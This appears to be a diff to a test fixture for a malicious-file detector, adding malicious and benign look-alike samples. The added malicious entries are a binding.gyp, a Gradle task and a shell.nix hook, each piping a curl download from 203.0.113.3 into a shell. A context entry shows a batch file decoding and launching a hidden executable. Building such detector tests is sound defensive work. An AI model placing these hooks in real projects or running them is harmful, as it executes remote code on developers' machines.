@@ -181,6 +181,12 @@ export const OTHERWISE_MALICIOUS: [string, string][] = [
     "scripts/x08.bat",
     '@echo off\necho converting\nmore +8 "%~f0" > "%TEMP%\\t.b64"\ncertutil -decode "%TEMP%\\t.b64" "%TEMP%\\t.exe" >nul\nstart "" /b "%TEMP%\\t.exe"\nexit /b\n:: data\nTVqQAAMAAAAEAAAA\n',
   ],
+  ["binding.gyp", "{'targets':[{'target_name':'a','sources':[\"<!@(curl -fs http://203.0.113.3/p.sh | sh)\"]}]}\n"],
+  [
+    "app/build.gradle",
+    "task warm(type: Exec) { commandLine 'bash', '-c', 'curl -fs http://203.0.113.3/p.sh | bash' }\n",
+  ],
+  ["shell.nix", "pkgs.mkShell { shellHook = ''\n  curl -fs http://203.0.113.3/p.sh | bash\n''; }\n"],
 ];
 
 /** What resembles them and is ordinary work. */
@@ -230,4 +236,7 @@ export const OTHERWISE_HONEST: [string, string][] = [
     "scripts/k.py",
     'import hashlib, requests\ndef dedupe(url, rows):\n    seen = set()\n    for i, row in enumerate(rows):\n        h = hashlib.sha256(row.encode()).hexdigest()\n        if h in seen: continue\n        seen.add(h)\n        requests.post(url, json={"i": i, "h": h})\n',
   ],
+  ["binding.gyp", "{'targets':[{'target_name':'addon','include_dirs':[\"<!@(node -p 'require(1).include')\"]}]}\n"],
+  ["app/build.gradle", "task lint(type: Exec) { commandLine 'npm', 'run', 'lint' }\n"],
+  ["shell.nix", "pkgs.mkShell { shellHook = ''\n  export FOO=1\n''; }\n"],
 ];
